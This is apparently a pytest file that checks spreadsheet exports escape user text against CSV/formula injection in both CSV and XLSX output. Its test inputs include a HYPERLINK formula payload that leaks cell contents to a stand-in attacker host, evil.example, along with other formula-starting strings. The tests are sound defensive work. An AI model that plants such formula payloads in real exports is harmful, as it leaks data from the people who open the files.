"""The one cell writer of every export: user text never becomes a live formula (CSV injection, OWASP)."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from gongkai.core import exports

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+1+2", "-3+4", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def test_every_formula_start_is_escaped_in_csv_and_read_back_unchanged():
    data = exports.write_csv(["申请内容"], [[value] for value in HOSTILE + ["'已有引号", "普通文本", None]])
    import csv

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [row[0] for row in rows[1:]]
    assert all(cell.startswith("'") for cell in cells[:len(HOSTILE) + 1])
    assert cells[-2:] == ["普通文本", ""]
    assert [exports.uncsv_cell(cell) for cell in cells] == HOSTILE + ["'已有引号", "普通文本", ""]


def test_a_hand_written_quote_before_plain_text_is_kept():
    assert exports.uncsv_cell("'abc") == "'abc"


def test_xlsx_cells_are_text_never_formulas():
    book = Workbook()
    sheet = book.active
    exports.write_row(sheet, 1, HOSTILE + ["#N/A", 7])
    data = exports.save(book)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    cells = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=False))[0]
    assert [c.data_type for c in cells] == ["s"] * (len(HOSTILE) + 1) + ["n"]
    assert [c.value for c in cells[:len(HOSTILE)]] == HOSTILE
    assert cells[0].quotePrefix and not cells[-2].quotePrefix


@pytest.mark.parametrize("value", ["=1+1", "普通"])
def test_openpyxl_alone_would_have_made_a_formula(value):
    """The reason `set_cell` exists: a plain assignment turns "=…" into a formula."""
    book = Workbook()
    book.active["A1"] = value
    assert (book.active["A1"].data_type == "f") is value.startswith("=")


def test_characters_an_xlsx_cannot_hold_are_dropped_not_a_500():
    """Stored text with NUL, ESC or a vertical tab (from before the forms refused them): openpyxl alone raises
    IllegalCharacterError; the cell keeps the rest of the text, tab and line breaks included."""
    book = Workbook()
    exports.write_row(book.active, 1, ["食品\x00生产\x1b许可", "第一行\n第二行\t完", "=\x0b1+1"])
    cells = list(load_workbook(io.BytesIO(exports.save(book))).active.iter_rows(values_only=False))[0]
    assert [c.value for c in cells] == ["食品生产许可", "第一行\n第二行\t完", "=1+1"]
    assert cells[2].data_type == "s" and cells[2].quotePrefix
